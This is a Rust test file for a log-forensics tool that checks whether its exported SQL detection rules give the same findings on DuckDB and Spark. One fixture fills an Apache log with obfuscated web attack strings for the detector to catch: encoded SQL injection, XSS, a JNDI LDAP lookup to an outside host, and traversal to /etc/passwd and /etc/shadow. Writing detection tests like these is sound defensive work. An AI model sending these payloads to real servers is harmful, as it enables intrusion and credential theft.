//! The case and the SQL rules on another engine: `rules export` for each dialect, and DuckDB
//! (scale/duckdb/detect.py, a real DuckDB) giving the same findings as `logsleuth detect` for
//! every exported rule on the sample.

use std::collections::BTreeMap;
use std::path::Path;

use crate::common::*;

/// A finding as parity compares it: (rule, host, source, user, first, last, count, evidence).
type Key = (String, String, String, String, String, String, u64, Vec<(String, i64)>);

fn key(f: &serde_json::Value) -> Key {
    let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
    let evidence = f["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["file"].as_str().unwrap().to_string(), e["line"].as_i64().unwrap()))
        .collect();
    (
        s("rule"),
        s("host_name"),
        s("source_ip"),
        s("user_name"),
        s("first_seen"),
        s("last_seen"),
        f["count"].as_u64().unwrap(),
        evidence,
    )
}

#[test]
fn exported_rules_are_plain_sql_for_each_dialect() {
    let dir = tempfile::tempdir().unwrap();
    // A placeholder left unfilled (`{name}`, `{name - 1}`); a regex's `\{` is no placeholder.
    let placeholder = regex::Regex::new(r"\{\s*[a-z_]+\s*([-+*]\s*\d+\s*)?\}").unwrap();
    for dialect in ["spark", "duckdb", "trino", "polars"] {
        let out = dir.path().join(dialect);
        let said = ok(&["rules", "export", "--dialect", dialect, "--out", out.to_str().unwrap()]);
        assert!(said.contains("rules written for"), "{said}");
        let catalog: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join("rules.json")).unwrap()).unwrap();
        let rules = catalog["rules"].as_array().unwrap();
        assert!(rules.len() >= 19, "every SQL rule: {}", rules.len());
        // At least 80 % of the built-in rule ids are portable; the correlations over the other
        // rules' findings run last.
        let ids: std::collections::BTreeSet<&str> = rules.iter().map(|r| r["rule"].as_str().unwrap()).collect();
        let rust = catalog["not_portable"].as_array().unwrap().len();
        assert!(ids.len() * 100 >= (ids.len() + rust) * 80, "{} portable, {rust} not", ids.len());
        let stage2: Vec<&str> = rules.iter().filter(|r| r["stage"] == 2).map(|r| r["rule"].as_str().unwrap()).collect();
        assert_eq!(stage2, ["cross_source", "attack_chain"]);
        assert!(rules.iter().rev().take(2).all(|r| r["stage"] == 2), "stage 2 comes last");
        assert!(catalog["views"]["sightings"].as_str().unwrap().contains("FROM events"));
        let mut files: Vec<&str> = rules.iter().map(|r| r["file"].as_str().unwrap()).collect();
        files.sort();
        files.dedup();
        assert_eq!(files.len(), rules.len(), "one file per rule");
        for r in rules {
            let sql = std::fs::read_to_string(out.join(r["file"].as_str().unwrap())).unwrap();
            let body: String = sql.lines().filter(|l| !l.starts_with("--")).collect::<Vec<_>>().join("\n");
            assert!(!placeholder.is_match(&body), "{dialect} {}: a parameter left unfilled", r["file"]);
            match dialect {
                "spark" => assert!(!body.contains("INTERVAL '"), "{body}"),
                "trino" => assert!(!body.contains("minutes'") && !body.contains("hours'"), "{body}"),
                _ => {}
            }
        }
        assert_eq!(catalog["dialect"], dialect);
    }
    // Parameters come from the configuration.
    let cfg = write(dir.path(), "cfg.toml", b"[ssh_bruteforce]\nmin_failures = 9\n");
    let out = dir.path().join("cfg");
    ok(&["rules", "export", "--dialect", "duckdb", "--out", out.to_str().unwrap(), "--config", cfg.to_str().unwrap()]);
    let sql = std::fs::read_to_string(out.join("ssh_bruteforce.sql")).unwrap();
    assert!(sql.contains("LAG(timestamp, 8)") && sql.contains("-- param: min_failures = 9"), "{sql}");
}

/// Runs `script CASE RULES OUT` (an engine's job over the rules exported for `dialect`) on the
/// sample case and checks that its findings are logsleuth's for every exported rule.
fn same_findings_on(engine: &str, dialect: &str, script: &str, env: &[(&str, &str)]) {
    let (dir, case) = sample_case("run");
    same_findings_in(&dir, &case, engine, dialect, script, env, 6);
}

/// Web attacks written the ways attackers hide them, in Apache's combined log format
/// (`%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i"`): double and digit-wise
/// percent-encoding, `+` for spaces, a stray `%`, mixed case, an encoded backslash, `${jndi:`
/// braces, quotes. Each engine must find what logsleuth finds, regexes and literals included.
fn hostile_web_case() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let requests = [
        ("203.0.113.7", "/p?id=1%2527%2520OR%25201%253D1", 200),
        ("203.0.113.7", "/search?q=%3CScRiPt%3Ealert(1)%3C%2Fscript%3E", 200),
        ("203.0.113.8", "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D", 400),
        ("203.0.113.8", "/cgi-bin/..%5C..%5Cwindows%5Cwin.ini", 404),
        ("203.0.113.9", "/p?q=a%ZZ+UNION+select+1", 500),
        ("203.0.113.9", "/index.php?page=%252e%252e%252fetc%252fpasswd", 200),
        ("203.0.113.9", "/a%%32%65%%32%65%2fetc/shadow", 404),
        ("203.0.113.10", "/wp-login.php", 200),
        ("203.0.113.10", "/p?q=it%27s+fine", 200),
        ("203.0.113.11", "/products?page=2&sort=price", 200),
    ];
    let mut log = String::new();
    for (i, (ip, url, status)) in requests.iter().enumerate() {
        log += &format!(
            "{ip} - - [01/Dec/2026:10:{i:02}:00 +0000] \"GET {url} HTTP/1.1\" {status} 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n"
        );
    }
    write(dir.path(), "ev/web01/var/log/apache2/access.log", log.as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", dir.path().join("ev").to_str().unwrap(), "--case", case.to_str().unwrap(), "-q"]);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(case.join("findings.json")).unwrap()).unwrap();
    let attacks: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "web_attack")
        .map(|f| f["source_ip"].as_str().unwrap())
        .collect();
    assert_eq!(attacks.len(), 4, "{attacks:?}");
    (dir, case)
}

#[test]
fn hidden_web_attacks_are_found_alike_on_duckdb_and_spark() {
    let (dir, case) = hostile_web_case();
    found_alike_on_duckdb_and_spark(&dir, &case);
}

/// [`same_findings_in`] on DuckDB, then on Spark with `local[2]`, each when installed (never
/// skipped under CI=true).
fn found_alike_on_duckdb_and_spark(dir: &tempfile::TempDir, case: &Path) {
    if python_has("duckdb") {
        same_findings_in(dir, case, "DuckDB", "duckdb", "scale/duckdb/detect.py", &[], 1);
    }
    if python_has("pyspark") && has_java() {
        let env = [("SPARK_MASTER", "local[2]"), ("SPARK_SHUFFLE_PARTITIONS", "2")];
        same_findings_in(dir, case, "Spark", "spark", "scale/spark/detect.py", &env, 1);
    }
}

/// Runs `script CASE RULES OUT` on `case` and checks its findings are logsleuth's for every
/// exported rule, with findings of at least `min_rules` rules.
fn same_findings_in(
    dir: &tempfile::TempDir,
    case: &Path,
    engine: &str,
    dialect: &str,
    script: &str,
    env: &[(&str, &str)],
    min_rules: usize,
) {
    let rules = dir.path().join(format!("rules-{dialect}"));
    ok(&["rules", "export", "--dialect", dialect, "--out", rules.to_str().unwrap()]);
    let out = dir.path().join(format!("findings-{dialect}.jsonl"));
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join(script);
    let run = std::process::Command::new("python3")
        .arg(script)
        .arg(case)
        .arg(&rules)
        .arg(&out)
        .envs(env.iter().copied())
        .output()
        .unwrap();
    assert!(run.status.success(), "{engine}: {}", String::from_utf8_lossy(&run.stderr));
    let theirs: Vec<serde_json::Value> =
        std::fs::read_to_string(&out).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let catalog: serde_json::Value = serde_json::from_slice(&std::fs::read(rules.join("rules.json")).unwrap()).unwrap();
    let ids: Vec<String> =
        catalog["rules"].as_array().unwrap().iter().map(|r| r["rule"].as_str().unwrap().to_string()).collect();
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(case.join("findings.json")).unwrap()).unwrap();
    let ours: Vec<&serde_json::Value> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| ids.contains(&f["rule"].as_str().unwrap().to_string()))
        .collect();
    let mut by_rule: BTreeMap<String, (Vec<Key>, Vec<Key>)> = BTreeMap::new();
    for f in &ours {
        by_rule.entry(f["rule"].as_str().unwrap().into()).or_default().0.push(key(f));
    }
    for f in &theirs {
        by_rule.entry(f["rule"].as_str().unwrap().into()).or_default().1.push(key(f));
    }
    assert!(by_rule.len() >= min_rules, "rules with findings: {:?}", by_rule.keys());
    for (rule, (mut a, mut b)) in by_rule {
        a.sort();
        b.sort();
        assert_eq!(a, b, "{rule}: logsleuth (left) and {engine} (right) differ");
    }
    // Titles are filled the same way.
    let title = |v: &[&serde_json::Value], r: &str| -> Vec<String> {
        let mut t: Vec<String> =
            v.iter().filter(|f| f["rule"] == r).map(|f| f["title"].as_str().unwrap().to_string()).collect();
        t.sort();
        t
    };
    let theirs_ref: Vec<&serde_json::Value> = theirs.iter().collect();
    for rule in [
        "ssh_bruteforce",
        "web_scan",
        "password_spraying",
        "web_attack",
        "process_activity",
        "cross_source",
        "attack_chain",
    ] {
        assert_eq!(title(&ours, rule), title(&theirs_ref, rule), "{engine}: titles of {rule}");
    }
    // And the details of process_activity (pattern kinds, actors, commands as lists, what ran)
    // and of the correlations over the other rules' findings (cross_source's sightings, an
    // object per source and host; attack_chain's steps, a list of objects).
    let details = |v: &[&serde_json::Value], rule: &str| -> Vec<String> {
        let mut d: Vec<String> = v
            .iter()
            .filter(|f| f["rule"] == rule)
            .map(|f| {
                // In key order (the jobs write theirs in column order); triage's reason is
                // logsleuth's, after detection.
                let mut d: BTreeMap<String, serde_json::Value> = serde_json::from_value(f["details"].clone()).unwrap();
                d.remove("severity_reason");
                d.remove("rule_severity");
                serde_json::to_string(&d).unwrap()
            })
            .collect();
        d.sort();
        d
    };
    for rule in ["process_activity", "cross_source", "attack_chain"] {
        assert_eq!(details(&ours, rule), details(&theirs_ref, rule), "{engine}: details of {rule}");
    }
}

/// The intrusion of [`crate::linux::intrusion_audit_log`] (auditd execve records, an audit
/// session's login) as a case: process_activity's patterns, its chmod-then-run sequence and the
/// login address of the session.
fn intrusion_case() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "ev/srv1/var/log/audit/audit.log", crate::linux::intrusion_audit_log().as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", dir.path().join("ev").to_str().unwrap(), "--case", case.to_str().unwrap(), "-q"]);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(case.join("findings.json")).unwrap()).unwrap();
    let kinds: std::collections::BTreeSet<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "process_activity")
        .map(|f| f["details"]["kind"].as_str().unwrap())
        .collect();
    assert!(kinds.contains("chmod_then_exec") && kinds.len() == 7, "{kinds:?}");
    (dir, case)
}

#[test]
fn process_activity_is_found_alike_on_duckdb_and_spark() {
    let (dir, case) = intrusion_case();
    found_alike_on_duckdb_and_spark(&dir, &case);
}

#[test]
fn duckdb_gives_the_findings_logsleuth_gives_for_every_exported_rule() {
    if !python_has("duckdb") {
        return;
    }
    same_findings_on("DuckDB", "duckdb", "scale/duckdb/detect.py", &[]);
}

/// A real Spark (PySpark, local[2], a JVM) runs the exported rules over the case's Parquet.
#[test]
fn spark_gives_the_findings_logsleuth_gives_for_every_exported_rule() {
    if !python_has("pyspark") || !has_java() {
        return;
    }
    same_findings_on(
        "Spark",
        "spark",
        "scale/spark/detect.py",
        &[("SPARK_MASTER", "local[2]"), ("SPARK_SHUFFLE_PARTITIONS", "2")],
    );
}

/// Java for Spark: skipped locally when missing, never under CI=true.
fn has_java() -> bool {
    let has = std::process::Command::new("java").arg("-version").output().is_ok_and(|o| o.status.success());
    if !has {
        assert!(std::env::var("CI").as_deref() != Ok("true"), "CI=true but java is missing (.ci/run installs it)");
        eprintln!("skipped: no java on PATH (Spark needs a JRE: apt-get install default-jre-headless)");
    }
    has
}

/// scale/spark/ingest.py on a real Spark: host folders ingested as shards on the executors,
/// merged on the driver, give the case one ingest gives: the same rows, the same findings.
#[test]
fn spark_sharded_ingest_merges_into_what_one_ingest_gives() {
    if !python_has("pyspark") || !has_java() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("sample");
    logsleuth::gen::scenario::write_sample(&ev, 20261205).unwrap();
    let once = dir.path().join("once");
    ok(&["ingest", ev.to_str().unwrap(), "--case", once.to_str().unwrap(), "-q"]);
    let out = dir.path().join("out");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scale/spark/ingest.py");
    // Groups of at most 1 MB: every host of the sample a shard of its own.
    let run = std::process::Command::new("python3")
        .arg(script)
        .arg(&ev)
        .arg(&out)
        .args(["--logsleuth", env!("CARGO_BIN_EXE_logsleuth"), "--group-mb", "1", "--threads", "1"])
        .env("SPARK_MASTER", "local[2]")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&run.stdout);
    assert!(run.status.success(), "{said}\n{}", String::from_utf8_lossy(&run.stderr));
    assert!(said.contains("4 shards ingested on Spark"), "{said}");
    let hosts: Vec<String> = std::fs::read_dir(out.join("shards"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    assert_eq!(hosts, ["app01", "db01", "gw01", "web01"]);
    let merged = out.join("case");
    assert_invariant(&merged);
    let (x, y) = (contents(&once, true), contents(&merged, true));
    assert!(x.0.height() > 50_000);
    assert!(x.0.equals_missing(&y.0), "the merged shards' rows differ from one ingest's");
    same_findings(&x.1, &y.1, "Spark shards vs one ingest");
    assert_eq!(manifest(&merged).runs.len(), 4, "a run per shard");
    ok(&["verify", "--case", merged.to_str().unwrap()]);
    // A rerun adds nothing: every shard and the merge are idempotent.
    let again = std::process::Command::new("python3")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("scale/spark/ingest.py"))
        .arg(&ev)
        .arg(&out)
        .args(["--logsleuth", env!("CARGO_BIN_EXE_logsleuth"), "--group-mb", "1"])
        .env("SPARK_MASTER", "local[2]")
        .output()
        .unwrap();
    assert!(again.status.success(), "{}", String::from_utf8_lossy(&again.stderr));
    assert_eq!(manifest(&merged).runs.len(), 4, "nothing merged twice");
}
